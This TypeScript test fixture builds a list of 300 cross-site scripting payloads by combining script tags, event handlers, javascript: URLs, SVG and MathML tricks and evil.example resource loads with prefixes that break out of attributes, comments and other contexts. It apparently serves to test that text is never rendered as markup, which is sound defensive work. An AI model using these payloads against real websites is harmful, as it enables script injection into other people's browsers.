/** What would run, were it taken for markup. */
const RUNS = [
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)>',
	'<svg><script>alert(1)</script></svg>',
	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
	'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
	'<iframe src="javascript:alert(1)"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
	'<a href="javascript:alert(1)">x</a>',
	'<style>@import "//evil.example/x.css";</style>',
	'<link rel=stylesheet href=//evil.example>',
	'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
	'<base href=//evil.example/>',
	'<form action=javascript:alert(1)><button>x',
	'<details open ontoggle=alert(1)>',
	'<object data="javascript:alert(1)">',
	'<foreignObject><body onload=alert(1)></foreignObject>',
	'<use href="data:image/svg+xml,<svg onload=alert(1)>"/>',
	'<image href="//evil.example/x.png"/>',
	'<template shadowrootmode=open><script>alert(1)</script></template>',
	'{@html "<img src=x onerror=alert(1)>"}',
	'${alert(1)}',
	'javascript:alert(1)//',
	'url(javascript:alert(1))'
];

/** What text may stand in, and what would end that. */
const ENDS = [
	(run: string) => run,
	(run: string) => `">${run}`,
	(run: string) => `'>${run}`,
	(run: string) => `</title>${run}`,
	(run: string) => `</text></svg>${run}`,
	(run: string) => `</script>${run}`,
	(run: string) => `</style>${run}`,
	(run: string) => `--><!-- -->${run}`,
	(run: string) => `]]>${run}<![CDATA[`,
	(run: string) => `</textarea>${run}`,
	(run: string) => `" onload="alert(1)" x="${run}`,
	(run: string) => `\u202e${run}\u0000\u2028`
];

/** 300 texts that run where somebody takes text for markup. */
export const SCRIPT_PAYLOADS: readonly string[] = ENDS.flatMap((end) => RUNS.map(end));
